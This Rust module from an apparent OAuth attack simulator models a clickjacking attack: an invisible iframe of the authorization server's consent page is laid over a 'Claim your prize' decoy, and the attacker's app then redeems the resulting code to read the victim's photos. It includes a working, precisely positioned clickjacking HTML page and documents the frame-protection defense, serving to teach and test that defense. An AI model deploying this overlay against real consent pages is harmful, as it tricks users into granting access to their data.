//! `consent-clickjacking`: the attacker's page frames the AS's consent page for its own
//! client and lays a decoy over the "Allow" button; Alice, already signed in at the AS,
//! clicks the decoy and approves Photo Frame without ever seeing the consent screen
//! (RFC 9700 §4.16). The AS's `frame-ancestors 'none'` and `X-Frame-Options: DENY` make
//! the browser refuse to show the page in the frame, so there is nothing to click.

use http::Method;

use crate::actors::Defenses;
use crate::actors::defenses::DefenseId;
use crate::actors::well_known as wk;
use crate::attacks::attacker::{Attacker, Kit, Loot, Moves, Playbook};
use crate::attacks::setup::*;
use crate::attacks::{Attack, AttackInfo, Capability, Stopper};
use crate::protocol::html::escape;
use crate::protocol::http_wire::{Request, Response, url_string};
use crate::protocol::secret::Secret;
use crate::protocol::token_response::TokenResponse;
use crate::sim::Simulation;
use crate::sim::world::alice_signs_in;

pub struct ConsentClickjacking;

/// The page at attacker.example with the framed consent page under a decoy.
pub(crate) const PRIZE_PATH: &str = "/prize";

static INFO: AttackInfo = AttackInfo {
    id: "consent-clickjacking",
    title: "Clickjacking: Alice's click on a decoy approves the attacker's app",
    story: "Alice has signed in to Photo Printer with as.example, so her browser has a session there. Later she \
            opens a prize page on attacker.example. It shows a \"Claim your prize\" button — and, invisible \
            under it, a frame with as.example's consent page for Photo Frame, Mallory's app. Alice clicks the \
            button; the click lands on \"Allow\". The AS sees a consent from Alice's own session, and Photo \
            Frame gets a code for her photos.",
    capabilities: &[Capability::WebAttacker],
    setup: "The attacker's client photo-frame is registered at the AS; Alice has signed in at the AS before.",
    steps: &[
        "Serve a prize page that frames as.example/authorize for photo-frame under a decoy button",
        "Receive the code at attacker.example/cb and redeem it as photo-frame",
        "Read Alice's photos with the access token",
    ],
    goal: "the attacker reads Alice's photos through an approval she never saw",
    stoppers: &[Stopper::alone(
        DefenseId::FrameProtection,
        "the consent page says frame-ancestors 'none' and X-Frame-Options: DENY, so the browser shows it in no other site's frame (RFC 9700 §4.16)",
    )],
    references: "RFC 9700 §4.16; RFC 6819 §4.4.1.9",
};

/// Photo Frame's server: redeems the code its callback receives, then reads the photos.
struct Collect {
    at: FramePlaces,
}

impl Playbook for Collect {
    fn on_request(
        &mut self,
        kit: &mut Kit,
        ctx: &mut Moves<'_, '_>,
        req: &Request,
    ) -> Option<Response> {
        if req.uri().path() == "/cb"
            && let Some(code) = query(&url_string(req.uri())).first("code")
        {
            ctx.note("Photo Frame: a code arrived at its callback; redeeming it.");
            let endpoint = self.at.token_endpoint();
            kit.request_tokens(ctx, &endpoint, &self.at.redemption(code));
        }
        None
    }

    fn on_tokens(&mut self, kit: &mut Kit, ctx: &mut Moves<'_, '_>, tokens: &TokenResponse) {
        let api = self.at.photos_api();
        kit.call_api(ctx, Method::GET, &api, tokens.access_token.expose());
    }
}

/// The prize page: the AS's consent page for Photo Frame in a frame that is all but
/// invisible and lies over the decoy, placed so that its "Allow" button is where the
/// decoy is (RFC 9700 §4.16). The AS's consent page has no style of its own, so in a
/// browser's default layout its "Allow" button starts 8 px from the frame's left and
/// about 150 px from its top (21 px high): the frame is shifted so that the centre of
/// "Allow" falls on the centre of the decoy. The page says so in a comment, and its
/// "Show the trick" box makes the frame half visible.
fn prize_page(at: &FramePlaces) -> String {
    format!(
        r#"<!-- How this page works (clickjacking, RFC 9700 §4.16). The frame below shows the AS's
     consent page for Photo Frame, the app of this site. Its opacity is 0.0001, so you do not
     see it, and it lies OVER the "Claim your prize" button: the browser hands a click on the
     button's place to the frame. The frame is shifted so that the consent page's "Allow"
     button (8 px from its left, about 150 px from its top) sits under the button's centre:
     clicking "Claim your prize" clicks "Allow". Tick "Show the trick" to see the frame. -->
<h1>You have won!</h1>
<p><label><input type="checkbox" onchange="document.querySelector('iframe').style.opacity = this.checked ? 0.5 : 0.0001"> Show the trick</label></p>
<div style="position:relative;width:960px;height:260px">
<button id="decoy" style="position:absolute;left:0;top:150px;width:200px;height:50px;font-size:20px">Claim your prize</button>
<iframe src="{}" title="the AS's consent page, made invisible" style="position:absolute;left:66px;top:14px;width:880px;height:240px;border:0;opacity:0.0001;z-index:1"></iframe>
</div>"#,
        escape(&at.authorization_url("photos.read", "frame-state-cj"))
    )
}

/// Photo Frame's site at `at.site`, labelled `label`: the prize page at
/// [`PRIZE_PATH`] and the callback that redeems what arrives.
pub(crate) fn attacker_site(label: &str, at: &FramePlaces) -> Attacker {
    Attacker::new(ATTACKER, label, &[&at.site], Collect { at: at.clone() })
        .with_page(PRIZE_PATH, "You have won!", &prize_page(at))
        .with_page(
            "/cb",
            "Photo Frame",
            "<h1>Photo Frame</h1><p>Connected.</p>",
        )
}

/// The goal on what Photo Frame's server holds: Alice's photo list.
pub(crate) fn goal_of(loot: &Loot) -> Option<String> {
    loot.has_photos_of(wk::ALICE).then(|| {
        "Photo Frame reads Alice's photos: her click on a decoy approved it on a consent screen she never saw".to_string()
    })
}

impl Attack for ConsentClickjacking {
    fn info(&self) -> &'static AttackInfo {
        &INFO
    }

    fn build_world(&self, seed: u64, defenses: Defenses) -> Simulation {
        let mut sim = world_with_attacker_client(seed, defenses);
        sim.add_actor(Box::new(attacker_site(
            "Attacker (Photo Frame at attacker.example)",
            &FramePlaces::simulated(),
        )));
        sim.push_script(alice_signs_in());
        sim.push_script(navigate(
            wk::BROWSER,
            &format!("{ATTACKER_ORIGIN}{PRIZE_PATH}"),
            "Later, Alice opens a prize page on attacker.example and clicks \"Claim your prize\".",
        ));
        sim
    }

    fn goal(&self, sim: &Simulation) -> Option<String> {
        goal_of(sim.actor::<Attacker>(ATTACKER)?.loot())
    }
}

pub static ATTACK: ConsentClickjacking = ConsentClickjacking;
